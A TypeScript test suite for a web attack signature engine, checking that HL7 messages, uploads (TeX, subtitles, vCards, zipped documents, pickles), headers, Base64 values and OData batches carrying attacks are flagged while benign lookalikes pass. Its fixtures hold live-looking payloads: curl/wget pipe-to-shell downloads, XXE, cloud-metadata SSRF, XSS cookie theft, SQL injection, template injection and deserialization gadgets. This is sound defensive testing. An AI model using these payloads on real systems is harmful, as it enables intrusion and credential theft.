/**
 * Bodies and parameters read as the software behind them reads them: HL7 v2 messages field by
 * field, uploads that a converter or a player acts on (MVG coders, TeX primitives, subtitle cues, a
 * playlist inside an AVI, a DOCTYPE inside a zipped document), URLs sent in Base64, another site's file in an include parameter, nginx's
 * alias traversal, a multipart part named twice, the query languages that name a MongoDB operator
 * (SoQL's `$where`, an aggregation's `$match`), and the requests a `$batch` carries.
 */
import { strToU8, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { createSignatureEngine, type SignatureInput, type SignatureOptions } from "../../../core/signatures/index.ts";

const engine = createSignatureEngine();
const enc = new TextEncoder();
const PL1: SignatureOptions = { paranoia: 1, threshold: 5 };

function req(over: Partial<SignatureInput> = {}): SignatureInput {
  return { method: "GET", path: "/a", rawPath: "/a", query: [], headers: [["host", "app.example"]], ...over };
}

const where = (input: SignatureInput): string[] =>
  engine.inspect(input, PL1).matches.map((m) => `${m.rule}@${m.location}`);
const post = (contentType: string, text: string): string[] =>
  where(req({ method: "POST", body: { bytes: enc.encode(text), contentType, truncated: false } }));
const upload = (filename: string, type: string, content: string): string[] =>
  post(
    "multipart/form-data; boundary=XB",
    `--XB\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XB--\r\n`,
  );
const query = (...pairs: Array<[string, string]>): string[] => where(req({ query: pairs }));
const path = (p: string): string[] => where(req({ path: p, rawPath: p }));

const MSH = "MSH|^~\\&|EHR|VALLEYFM|IMMREG|NMSIIS|20240510090000||QBP^Q11^QBP_Q11|Q-88120|P|2.5.1|||ER|AL";

describe("HL7 v2 messages", () => {
  it("reads a message's separators as its grammar, not as shell pipes and chains", () => {
    const msg = `${MSH}\rQPD|Z44^Request Evaluated History and Forecast^CDCPHINVS|Q-88120\rRCP|I|5^RD&Records&HL70126\r`;
    expect(post("text/plain", msg)).toEqual([]);
    // Segments without a header are no HL7 to the reader: the text is judged whole.
    expect(post("text/plain", "QPD|Z44^x|Q-1\rOBX|1|TX|||;cat /etc/passwd\r")).toEqual(
      expect.arrayContaining([expect.stringMatching(/@body:raw$/)]),
    );
  });

  it("judges each field's values, with HL7's escapes decoded", () => {
    expect(post("application/hl7-v2", `${MSH}\rPID|1||' OR 1=1--||DOE^JOHN`)).toContain("942100@body:raw.PID.3");
    // `\F\` is the field separator: the application's HL7 library hands `DOE|curl …|sh` over.
    expect(post("text/plain", `${MSH}\rPID|1||123||DOE^JOHN\\F\\curl http://198.51.100.4/x.sh\\F\\sh`)).toContain(
      "932100@body:raw.PID.5",
    );
    // `\X..\` is bytes in hex: `<script>alert(1) `.
    expect(post("text/plain", `${MSH}\rOBX|1|TX|||\\X3C7363726970743E616C65727428312920\\`)).toContain(
      "941100@body:raw.OBX.5",
    );
  });
});

describe("uploads a converter or a player acts on", () => {
  it("reads an audio file's XML chunk that declares entities (WordPress's iXML XXE, CVE-2021-29447)", () => {
    const wav =
      "RIFF\u00b8\u0000\u0000\u0000WAVEiXML{\u0000\u0000\u0000<?xml version=\"1.0\"?><!DOCTYPE ANY[<!ENTITY % remote SYSTEM 'http://203.0.113.88:8001/evil.dtd'>%remote;%init;]>";
    expect(upload("bell.wav", "audio/wav", wav).some((m) => m.startsWith("941180") || m.startsWith("941181"))).toBe(
      true,
    );
    // A WAV without a declaration is a file's bytes.
    expect(upload("bell.wav", "audio/wav", "RIFF\u00b8\u0000\u0000\u0000WAVEfmt \u0010\u0000data")).toEqual([]);
  });

  it("reads MVG whatever the file's name and type, and the coders that run or read", () => {
    const mvg =
      "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'msl:/tmp/php8Fa2Qx'\npop graphic-context";
    expect(upload("thumb.svg", "image/svg+xml", mvg)).toContain("931110@body:multipart.file.content.arg");
    expect(upload("a.mvg", "image/x-mvg", mvg.replace("msl:/tmp/php8Fa2Qx", "label:@/tmp/notes"))).toContain(
      "931110@body:multipart.file.content.arg",
    );
    expect(upload("a.mvg", "image/x-mvg", mvg.replace("msl:/tmp/php8Fa2Qx", "https://cdn.example/a.png"))).toEqual([]);
  });

  it("reads a text upload's TeX primitives, not its prose", () => {
    const tex = (line: string) =>
      `\\documentclass{book}\n\\begin{document}\n${line}\n\\chapter{Prologue}\nIt was a dark night.\n\\end{document}`;
    expect(
      upload("novel.tex", "application/x-tex", tex("\\immediate\\write18{curl -s http://198.51.100.40/r.sh | bash}")),
    ).toContain("920266@body:multipart.file.content.tex");
    expect(upload("novel.tex", "application/x-tex", tex("\\input{/etc/passwd}"))).toContain(
      "920267@body:multipart.file.content.tex",
    );
    expect(upload("novel.tex", "application/x-tex", tex("\\input{chapters/intro}"))).toEqual([]);
  });

  it("reads a subtitle file's cues that hold markup", () => {
    const srt = (cue: string) =>
      `1\n00:00:01,000 --> 00:00:04,000\nWelcome back!\n\n2\n00:00:04,500 --> 00:00:07,200\n${cue}\n`;
    expect(
      upload("en.srt", "application/x-subrip", srt("<script>fetch('//x.example/?c='+document.cookie)</script>")),
    ).toContain("941100@body:multipart.file.content.cue");
    expect(upload("en.vtt", "text/vtt", srt('<img src=x onerror="alert(1)">'))).toContain(
      "941110@body:multipart.file.content.cue",
    );
    expect(upload("en.srt", "application/x-subrip", srt('<i>Whispering</i> <font color="#ffff00">Hi</font>'))).toEqual(
      [],
    );
    expect(upload("en.vtt", "text/vtt", srt("<v Roger Bingham><c.yellow>We are in New York City</c>"))).toEqual([]);
  });

  it("reads a playlist inside an AVI, which ffmpeg probes and fetches", () => {
    const avi =
      "RIFF\u0000\u0000\u0000\u0000AVI LIST\u0000\u0000hdrlavih8\u0000GAB2\u0000#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile:///var/www/app/.env\n#EXT-X-ENDLIST\n";
    expect(upload("clip.avi", "video/avi", avi)).toContain("931110@body:multipart.file.content.playlist");
    expect(upload("clip.avi", "video/avi", "RIFF\u0000\u0000\u0000\u0000AVI LIST\u0000\u0000hdrlmovi frames")).toEqual(
      [],
    );
  });
});

describe("records an importer takes from a file: contacts, events, translations", () => {
  const ics = (props: string) =>
    `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Apple Inc.//macOS 14.4//EN\r\nBEGIN:VEVENT\r\nUID:A1B2-C3\r\nDTSTART:20240510T090000Z\r\n${props}END:VEVENT\r\nEND:VCALENDAR\r\n`;
  const vcard = (props: string) => `BEGIN:VCARD\r\nVERSION:4.0\r\n${props}END:VCARD\r\n`;
  const po = (entries: string) =>
    `# Dutch translation\nmsgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: nl\\n"\n\n${entries}`;

  it("reads an event's properties as the values a server fetches and a page shows", () => {
    const metadata = ics(
      "SUMMARY:Standup\r\nATTACH;FMTTYPE=application/octet-stream:http://169.254.169.254/latest/meta-data/iam/\r\n",
    );
    expect(upload("invite.ics", "text/calendar", metadata)).toContain("934110@body:multipart.file.content.attach");
    // Folded: the address continues on the next line, after a space.
    const folded = ics("URL:http://169.254.169\r\n .254/latest/meta-data/\r\n");
    expect(upload("invite.ics", "application/octet-stream", folded)).toContain(
      "934110@body:multipart.file.content.url",
    );
    const benign = ics(
      'SUMMARY:Sprint review\\, Q2\r\nDESCRIPTION:Agenda:\\n1. Demo (10 min)\\n2. Retro - what went well?\\nJoin: https://meet.example.com/abc-defg-hij\r\nLOCATION:Room 4.12\\; 4th floor\r\nURL:https://calendar.example.com/e/8812\r\nATTACH;FMTTYPE=application/pdf:https://files.example.com/agenda.pdf\r\nORGANIZER;CN="Ann O\'Neil":mailto:ann@example.com\r\n',
    );
    expect(upload("invite.ics", "text/calendar", benign)).toEqual([]);
  });

  it("reads a contact's properties, and leaves its role to the contact", () => {
    const xss = vcard("FN:<svg><animate onbegin=alert(1) attributeName=x dur=1s>\r\nORG:Evil Inc\r\n");
    expect(upload("contact.vcf", "text/x-vcard", xss)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^941\d+@body:multipart\.file\.content\.fn$/)]),
    );
    const person = vcard(
      "FN:Zoë O'Brien-Díaz\r\nN:O'Brien-Díaz;Zoë;;;\r\nORG:Acme\\, Inc.;R&D\r\nROLE:Administrator\r\nTITLE:Head of IT\r\nEMAIL;TYPE=work:zoe@acme.example\r\nTEL;TYPE=cell:+1-555-0100\r\nNOTE:Met at KubeCon - follow up re: renewal (Q3)\\, prefers email\r\nURL:https://acme.example/team/zoe\r\n",
    );
    expect(upload("zoe.vcf", "text/vcard", person)).toEqual([]);
    // Even sent to the caller's own profile, a contact's ROLE is no role the caller sets.
    const own = (content: string) =>
      where(
        req({
          method: "POST",
          path: "/api/me/contacts/import",
          rawPath: "/api/me/contacts/import",
          body: {
            bytes: enc.encode(
              `--XB\r\nContent-Disposition: form-data; name="file"; filename="zoe.vcf"\r\nContent-Type: text/vcard\r\n\r\n${content}\r\n--XB--\r\n`,
            ),
            contentType: "multipart/form-data; boundary=XB",
            truncated: false,
          },
        }),
      );
    expect(own(person)).toEqual([]);
  });

  it("reads a catalogue's translations as the text its pages render", () => {
    const script = po('msgid "Sign in"\nmsgstr "Inloggen<script src=//198.51.100.66/k.js></script>"\n');
    expect(upload("nl.po", "text/x-gettext-translation", script)).toContain(
      "941100@body:multipart.file.content.msgstr",
    );
    // Split over quoted lines, as gettext writes long strings: joined before it is judged.
    const split = po('msgid "Welcome"\nmsgstr ""\n"Welkom <img src=x "\n"onerror=alert(document.domain)>"\n');
    expect(upload("nl.po", "application/octet-stream", split).some((m) => m.startsWith("941"))).toBe(true);
    const benign = po(
      '#. Shown on the checkout button\n#: src/checkout.tsx:42\nmsgid "Pay %s now"\nmsgstr "Nu %s betalen"\n\nmsgid "Read our <a href=\\"/terms\\">terms</a>"\nmsgstr "Lees onze <a href=\\"/terms\\">voorwaarden</a>"\n\nmsgid "One file"\nmsgid_plural "{count} files"\nmsgstr[0] "Eén bestand"\nmsgstr[1] "{count} bestanden"\n',
    );
    expect(upload("nl.po", "text/x-gettext-translation", benign)).toEqual([]);
  });
});

describe("XML inside a zip (an office document, an e-book)", () => {
  const types =
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
  const docx = (document: string) =>
    zipSync({ "[Content_Types].xml": strToU8(types), "word/document.xml": strToU8(document) }, { level: 6 });
  const xxe =
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document><w:body><w:t>&xxe;</w:t></w:body></w:document>';
  const plain = `<?xml version="1.0"?><w:document><w:body><w:t>${"Résumé, références. ".repeat(300)}</w:t></w:body></w:document>`;
  const base64 = (bytes: Uint8Array) => btoa(Array.from(bytes, (b) => String.fromCharCode(b)).join(""));
  const multipart = (file: Uint8Array): string[] => {
    const head = strToU8(
      '--XB\r\nContent-Disposition: form-data; name="cv"; filename="cv.docx"\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\r\n',
    );
    const tail = strToU8("\r\n--XB--\r\n");
    const bytes = new Uint8Array(head.length + file.length + tail.length);
    bytes.set(head);
    bytes.set(file, head.length);
    bytes.set(tail, head.length + file.length);
    return where(
      req({ method: "POST", body: { bytes, contentType: "multipart/form-data; boundary=XB", truncated: false } }),
    );
  };

  it("reads the DOCTYPE of a Base64 document's XML entries, inflated", () => {
    expect(post("application/json", JSON.stringify({ file: base64(docx(xxe)) }))).toContain(
      "941180@body:json.file.entry.word/document.xml",
    );
    expect(post("application/json", JSON.stringify({ file: base64(docx(plain)) }))).toEqual([]);
  });

  it("reads them in an uploaded document, from the body's bytes", () => {
    expect(multipart(docx(xxe))).toContain("941180@body:multipart.cv.content.entry.word/document.xml");
    expect(multipart(docx(plain))).toEqual([]);
    // An e-book's XHTML names W3C's own DTD: no entity to fetch.
    const epub = zipSync({
      "OEBPS/ch1.xhtml": strToU8(
        '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>One</p></body></html>',
      ),
    });
    expect(multipart(epub)).toEqual([]);
  });

  it("reads the pickles of a zip, as PyTorch's checkpoints keep them", () => {
    const bytes = (text: string) => Uint8Array.from(text, (ch) => ch.charCodeAt(0));
    const evil = bytes(
      "\u0080\u0002cbuiltins\neval\nq\u0000X\u0010\u0000\u0000\u0000print(open('x'))q\u0001\u0085q\u0002Rq\u0003.",
    );
    const plain = bytes(
      "\u0080\u0002}q\u0000(X\u0006\u0000\u0000\u0000weightq\u0001ctorch._utils\n_rebuild_tensor_v2\nq\u0002u.",
    );
    const checkpoint = (pkl: Uint8Array) =>
      zipSync({ "archive/data.pkl": [pkl, { level: 0 }], "archive/version": strToU8("3") });
    expect(multipart(checkpoint(evil))).toContain("934155@body:multipart.cv.content.entry.archive/data.pkl.pickle");
    expect(post("application/json", JSON.stringify({ checkpoint: base64(checkpoint(evil)) }))).toContain(
      "934155@body:json.checkpoint.entry.archive/data.pkl.pickle",
    );
    expect(multipart(checkpoint(plain))).toEqual([]);
  });

  it("reads a template in an uploaded JSON configuration, and no other value", () => {
    const config = (template: string) =>
      JSON.stringify({ eos_token: "</s>", chat_template: template, note: "{{ 7*7 }} is how a probe looks" });
    const up = (text: string) => upload("tokenizer_config.json", "application/json", text);
    expect(up(config("{{ cycler.__init__.__globals__.os.popen('id').read() }}"))).toContain(
      "934170@body:json.file.content.chat_template",
    );
    expect(up(config("{% for m in messages %}{{ m.role }}: {{ m.content }}{% endfor %}"))).toEqual([]);
  });

  it("inflates an entry's beginning only, and reads on past a bomb's entry", () => {
    // 16 MiB of zeros in 16 KB: the step-by-step inflation stops at the first 4 KB of it.
    const bomb = zipSync({ "word/document.xml": new Uint8Array(16 << 20), "x.xml": strToU8(xxe) }, { level: 9 });
    expect(bomb.length).toBeLessThan(40_000);
    expect(post("application/json", JSON.stringify({ file: base64(bomb) }))).toContain(
      "941180@body:json.file.entry.x.xml",
    );
  });
});

describe("multipart parts that parsers read differently", () => {
  it("reports a part with two Content-Disposition headers and reads both names", () => {
    const twice = post(
      "multipart/form-data; boundary=XB",
      '--XB\r\nContent-Disposition: form-data; name="cv"; filename="cv.php"\r\nContent-Type: application/pdf\r\nContent-Disposition: form-data; name="role"\r\n\r\nadmin\r\n--XB--\r\n',
    );
    expect(twice).toContain("922130@body:multipart.cv");
    // The first disposition's file name is inspected too: a PHP upload to the framework that takes it.
    expect(twice.some((w) => w.startsWith("933"))).toBe(true);
    expect(
      post(
        "multipart/form-data; boundary=XB",
        '--XB\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XB--\r\n',
      ),
    ).toEqual([]);
  });
});

describe("URLs the application loads", () => {
  it("judges a Base64 value or path segment that decodes to a URL as that URL", () => {
    const meta = btoa("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token");
    expect(query(["src", meta])).toContain("934110@query:src.b64");
    expect(path(`/insecure/rs:fit:512:512:0/g:no/${meta.replaceAll("=", "")}.png`)).toContain("934110@path.b64");
    // A public image's URL, a token and a Base64 YAML file decode to nothing to judge.
    expect(query(["src", btoa("https://images.example.com/cat.jpg")])).toEqual([]);
    expect(query(["token", "dGhpcyBpcyBhIHRlc3QgdG9rZW4gdmFsdWU"])).toEqual([]);
    expect(query(["content", btoa("name: CI\non:\n  push:\n")])).toEqual([]);
  });

  it("takes another site's URL in a parameter naming a file to load for remote inclusion", () => {
    expect(query(["include", "HtTpS://raw.githubusercontent.com/x0rcist/shells/main/b374k.php"])).toContain(
      "931102@query:include",
    );
    expect(query(["template", "https://pastebin.com/raw/xQ7pL2aN"])).toContain("931102@query:template");
    expect(query(["lang", "//evil.example/en"])).toContain("931102@query:lang");
    expect(query(["url", "https://pastebin.com/raw/xQ7pL2aN"])).toEqual([]);
    expect(query(["template", "invoice-2024"])).toEqual([]);
  });

  it("takes a segment glued to two dots for nginx's alias traversal", () => {
    expect(path("/media../config/settings.py")).toContain("930110@path");
    expect(path("/assets%2e%2e/app.py")).toContain("930110@path");
    expect(path("/posts/and-then.../comments")).toEqual([]);
    // Nothing after the segment: no directory to reach.
    expect(path("/files/v1.2../")).toEqual([]);
  });
});

describe("headers and values read as the application reads them", () => {
  const headers = (...h: Array<[string, string]>) => where(req({ headers: [["host", "app.example"], ...h] }));

  it("scans a Bearer credential that is no token, and leaves tokens alone", () => {
    expect(
      headers(["authorization", "Bearer ';SELECT(0x3c3f7068702073797374656d28245f4745545b2763275d293b3f"]),
    ).toContain("942120@header:authorization.bearer");
    expect(headers(["authorization", "Bearer AAAAAA'/**/or/**/'1'='1'#"])).toContain(
      "942100@header:authorization.bearer",
    );
    expect(headers(["authorization", "Bearer ya29.a0AfH6SMBx-_~+/0aBcD=="])).toEqual([]);
  });

  it("scans a Host that is no host name", () => {
    const r = where(
      req({ headers: [["host", "' UNION SELECT 1,2,3,(SELECT client_secret FROM oauth_clients LIMIT 1)-- "]] }),
    );
    expect(r).toContain("942130@header:host");
    expect(where(req({ headers: [["host", "[2001:db8::1]:8443"]] }))).toEqual([]);
  });

  it("judges a query value's Base64 line of text, in UTF-8 or UTF-16LE", () => {
    expect(query(["system", btoa("wget http://94.156.71.22/dlink.sh -O- | sh")])).toContain("932100@query:system.b64");
    const utf16 = btoa(Array.from("http://169.254.169.254/latest/meta-data/", (ch) => `${ch}\u0000`).join(""));
    expect(query(["Url", utf16])).toContain("934110@query:Url.b64");
  });

  it("reads a shell's -c arguments as the command string they are", () => {
    expect(
      post(
        "application/json",
        JSON.stringify({ command: "run", utilCmdArgs: "-c 'id; cat /config/bigip.conf | head -50'" }),
      ),
    ).toContain("932100@body:json.utilCmdArgs.sh");
    expect(query(["args", "-c 'foo bar'"])).toEqual([]);
  });

  it("reads a body that is a serialized object in Base64", () => {
    const dotnet = btoa(
      "\u0000\u0001\u0000\u0000\u0000\u00ff\u00ff\u00ff\u00ff\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u000c\u0002\u0000\u0000\u0000ISystem, Version=4.0.0.0\u0005\u0001\u0000\u0000\u0000System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]\u0004System.Diagnostics.Process",
    );
    expect(post("application/octet-stream", dotnet)).toContain("944210@body:raw.serialized");
  });
});

describe("query languages that name a MongoDB operator", () => {
  it("reads a comparison's field in a query name (`time>=2024-05-01`) as the field", () => {
    expect(query(["time>", "2024-05-01T00:00:00Z"], ["wtmp!", "NaN"], ["station", '"46042"'])).toEqual([]);
    expect(query([";id>", "1"])).toContain("932100@query-name");
  });

  it("passes SoQL's $where condition and still takes JavaScript there", () => {
    expect(query(["$where", "issue_date > '2024-01-01' AND reported_cost < 500"], ["$limit", "1000"])).toEqual([]);
    expect(query(["$where", "this.password.match(/.*/)"])).toContain("942290@query-name");
    expect(query(["$where", "sleep(5000)"])).toContain("942290@query-name");
    // One `$where` of JavaScript beside a SoQL one: the name counts.
    expect(query(["$where", "x > 1"], ["$where", "this.a == 1"])).toContain("942290@query-name");
  });

  it("passes an aggregation's $match filter and still takes an operator where a value was expected", () => {
    const pipeline = '{"pipeline":[{"$match":{"ts":{"$gte":"2024-05-01T00:00:00Z","$lt":"2024-06-01T00:00:00Z"}}}]}';
    expect(post("application/json", pipeline)).toEqual([]);
    expect(post("application/json", '{"user":"admin","password":{"$gt":""}}')).toContain(
      "942290@body:json-name.password.$gt",
    );
  });
});

describe("a batch's embedded requests", () => {
  const batch = (...parts: string[]) =>
    post(
      "multipart/mixed; boundary=batch_1",
      `${parts.map((p) => `--batch_1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${p}\r\n`).join("")}--batch_1--\r\n`,
    );

  it("reads each request's parameters, path and JSON body as the server runs them", () => {
    expect(
      batch("GET Employees?$filter=Id eq 1);DROP TABLE AuditLog;-- HTTP/1.1\r\nAccept: application/json\r\n"),
    ).toContain("942120@body:multipart.part1.request.query.$filter");
    expect(batch("GET Employees?$filter=startswith(LastName,'a') or 1 eq 1 HTTP/1.1\r\n")).toContain(
      "942100@body:multipart.part1.request.query.$filter",
    );
    expect(
      batch(
        'POST Customers HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"Name":"x\' UNION SELECT password FROM users--"}',
      ),
    ).toContain("942130@body:json.part1.request.body.Name");
  });

  it("reads the requests of a changeset, a multipart body nested in the batch", () => {
    const changeset = (request: string) =>
      post(
        "multipart/mixed; boundary=batch_a1",
        `--batch_a1\r\nContent-Type: multipart/mixed; boundary=Changeset_C1\r\n\r\n--Changeset_C1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\nContent-ID: 1\r\n\r\n${request}\r\n--Changeset_C1--\r\n--batch_a1--\r\n`,
      );
    expect(
      changeset(
        `PATCH Employees(7) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"Title":"Manager' WHERE 1=1; UPDATE Users SET IsAdmin=1 WHERE Login='mallory'--"}`,
      ),
    ).toContain("942120@body:json.part1.part1.request.body.Title");
    expect(
      changeset('PATCH Employees(7) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"Title":"Manager"}'),
    ).toEqual([]);
  });

  it("leaves ordinary batched reads and writes alone", () => {
    expect(
      batch(
        "GET Products?$filter=Name%20eq%20'O''Brien%20%26%20Sons'&$top=5 HTTP/1.1\r\nAccept: application/json\r\n",
        'PATCH Products(4) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"Price":12.5,"Note":"half-price until Friday"}',
      ),
    ).toEqual([]);
  });
});

describe("documents inside documents, and names a quote closed early", () => {
  it("reads XML carried in CDATA, a JSON body sent as a form, and a file name's spill", () => {
    const dvr =
      '<?xml version="1.0"?><DVR><SetConfiguration File="service.xml"><![CDATA[<?xml version="1.0"?><DVR><NTP Server="time.nist.gov&cd /tmp;wget http://141.98.10.63/li.arm;chmod 777 li.arm"/></DVR>]]></SetConfiguration></DVR>';
    expect(post("text/xml", dvr)).toContain("932100@body:xml.DVR.SetConfiguration.cdata.DVR.NTP@Server");
    expect(
      post("application/x-www-form-urlencoded", '{"topicurl":"setDiagnosisCfg","ipDoamin":"`ls>/www/1.txt`"}'),
    ).toContain("932130@body:json.ipDoamin");
    expect(upload('";wget -O- http://94.156.8.172/q.sh|sh;#.img', "application/octet-stream", "QNAPFW")).toEqual(
      expect.arrayContaining([expect.stringMatching(/^932\d+@/)]),
    );
    expect(post("text/xml", "<a><![CDATA[<b>Fish & chips; peas</b>]]></a>")).toEqual([]);
  });

  it("takes format strings in an XML login and overflows in a cookie or a Basic user", () => {
    expect(post("text/xml", `<Login><Username>${"%n".repeat(12)}</Username></Login>`)).toContain(
      "920161@body:xml.Login.Username",
    );
    expect(
      where(
        req({
          headers: [
            ["host", "app.example"],
            ["cookie", `password=${"A".repeat(80)}`],
          ],
        }),
      ),
    ).toContain("920161@cookie:password");
    expect(
      where(
        req({
          headers: [
            ["host", "app.example"],
            ["authorization", `Basic ${btoa("%s%s%s%s%n%n:%x%x")}`],
          ],
        }),
      ),
    ).toContain("920161@header:authorization.basic.user");
  });
});

describe("bodies sent under another type or encoding", () => {
  it("reads JSON sent as text/plain and a multipart part in Base64", () => {
    expect(post("text/plain", '{"username":"admin\' -- ","password":"x"}')).toContain("942110@body:json.username");
    const part = btoa("INV-2211' OR '1'='1' UNION SELECT path,2 FROM files--");
    expect(
      post(
        "multipart/form-data; boundary=XB",
        `--XB\r\nContent-Disposition: form-data; name="docRef"\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${part}\r\n--XB--\r\n`,
      ),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/^942\d+@body:multipart\.docRef$/)]));
    expect(
      post(
        "multipart/form-data; boundary=XB",
        `--XB\r\nContent-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa("Meeting moved to 3pm; bring the Q3 deck")}\r\n--XB--\r\n`,
      ),
    ).toEqual([]);
  });

  it("leaves a procurement document's cXML DOCTYPE alone, and still takes another site's DTD", () => {
    const cxml = (dtd: string) =>
      `<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "${dtd}"><cXML payloadID="1@x" timestamp="2024-09-01T10:12:16Z"><Header/></cXML>`;
    expect(post("text/xml", cxml("http://xml.cxml.org/schemas/cXML/1.2.060/InvoiceDetail.dtd"))).toEqual([]);
    expect(post("text/xml", cxml("http://203.0.113.5/evil.dtd"))).toContain("941180@body:xml.!doctype");
  });
});
